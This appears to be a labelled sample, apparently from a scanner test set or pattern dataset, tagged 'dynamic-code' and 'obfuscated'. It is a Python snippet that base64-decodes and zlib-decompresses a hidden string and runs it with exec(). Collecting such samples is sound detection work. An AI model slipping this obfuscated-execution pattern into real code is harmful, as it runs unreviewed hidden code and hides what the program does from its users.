# category: dynamic-code
# obfuscated: yes
import zlib, base64
blob = "eJzLzC3ILypRyC8u0StOzcnPTy1SyCxOzMnJV0hJTc5PSVUoSsxLKU7NAQBrPg3j"
exec(zlib.decompress(base64.b64decode(blob)).decode())
